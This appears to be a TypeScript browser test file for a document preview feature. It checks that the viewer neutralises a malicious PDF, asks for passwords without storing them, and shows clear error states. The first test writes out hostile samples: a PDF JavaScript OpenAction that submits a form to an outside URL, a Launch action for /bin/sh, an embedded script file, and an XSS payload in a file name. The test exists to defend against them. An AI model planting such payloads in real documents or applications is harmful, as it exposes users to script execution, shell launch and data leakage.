import { buildDocument, buildPdf, serveDocuments } from './documents.ts'
import { dialog, pages } from './preview.ts'
import { expect, failedWith, test } from './test.ts'

test('what a PDF carries beside its pages never runs, and nothing outside is asked for', async ({ asUser: page }) => {
  const content = await buildPdf(['Harmless words'], {
    add: (pdf) => {
      const attack = "app.alert('ran'); window.ran = true; this.submitForm('https://example.org/x')"
      const root = (pdf as unknown as { _root: { data: Record<string, unknown> } })._root.data
      const action = pdf.ref({ S: 'JavaScript', JS: new String(attack) })
      action.end('')
      root['OpenAction'] = action
      root['AA'] = { WC: { S: 'Launch', F: new String('/bin/sh') } }
      pdf.link(60, 200, 300, 40, 'https://example.org/clicked')
      pdf.file(Buffer.from('<script>window.ran = true</script>'), { name: 'run.html' })
    },
  })
  expect(content.toString('latin1')).toMatch(/JavaScript[^]*Launch|Launch[^]*JavaScript/)
  await serveDocuments(page, [{ ...buildDocument({ name: '<img src=x onerror="window.ran=true">.pdf' }), content }])
  const outside: string[] = []
  page.on('request', (call) => {
    if (!call.url().startsWith('blob:') && new URL(call.url()).hostname !== '127.0.0.1') outside.push(call.url())
  })
  page.on('dialog', (shown) => outside.push(`dialog ${shown.message()}`))
  page.on('popup', (opened) => outside.push(`popup ${opened.url()}`))
  await page.goto('/requests?document=doc-1')
  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('Harmless words')
  await pages(page)
    .first()
    .click({ position: { x: 150, y: 100 } })
  await expect(dialog(page).getByRole('heading', { name: '<img src=x' })).toBeVisible()
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(outside).toEqual([])
})

test('a protected PDF asks for its password, which is stored nowhere', async ({ asUser: page }) => {
  const content = await buildPdf(['A page behind a password'], { userPassword: 'sesame', pdfVersion: '1.7' })
  await serveDocuments(page, [{ ...buildDocument(), content }])
  await page.goto('/requests?document=doc-1')
  const field = dialog(page).getByLabel('Password of the document')
  await expect(field).toBeFocused()
  await field.fill('wrong')
  await field.press('Enter')
  await expect(dialog(page).getByText('This password does not open the document')).toBeVisible()
  await expect(field).toBeFocused()
  await dialog(page).getByRole('button', { name: 'Cancel' }).click()
  await dialog(page).getByRole('button', { name: 'Enter the password' }).click()
  await field.fill('sesame')
  await dialog(page).getByRole('button', { name: 'Open' }).click()
  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('A page behind a password')
  const stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, location.href]))
  expect(stored).not.toContain('sesame')
})

test('what cannot be shown says why and what to do', async ({ asUser: page, expected }) => {
  expected.push(failedWith(404), /ERR_FAILED/)
  await serveDocuments(page, [
    {
      ...buildDocument({ id: 'damaged' }),
      content: Buffer.from('%PDF-1.7\nnothing of it'),
      pages: [{ number: 1, text: 'Its words' }],
    },
    buildDocument({ id: 'gone' }),
    buildDocument({ id: 'scan', type: 'docx', text: { state: 'none', pages: null, note: null } }),
    { ...buildDocument({ id: 'lost' }), content: await buildPdf(['Here again']) },
  ])
  await page.goto('/requests?document=damaged')
  await expect(dialog(page).getByText('This PDF cannot be shown here')).toBeVisible()
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    dialog(page).getByRole('button', { name: 'Download' }).last().click(),
  ])
  expect(file.suggestedFilename()).toBe('Minutes of the transit working group.pdf')
  await dialog(page).getByRole('button', { name: 'Show as text' }).first().click()
  await expect(dialog(page).getByText('Its words')).toBeVisible()

  await page.goto('/requests?document=gone')
  await expect(dialog(page).getByText('This document is no longer there')).toBeVisible()
  await page.goto('/requests?document=scan')
  await expect(dialog(page).getByText('This DOCX has no text')).toBeVisible()

  let isLost = true
  await page.route('**/api/documents/lost/content', (route) => (isLost ? route.abort() : route.fallback()))
  await page.goto('/requests?document=lost')
  await expect(dialog(page).getByText('The document could not be loaded')).toBeVisible()
  isLost = false
  await dialog(page).getByRole('button', { name: 'Try again' }).click()
  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('Here again')
})
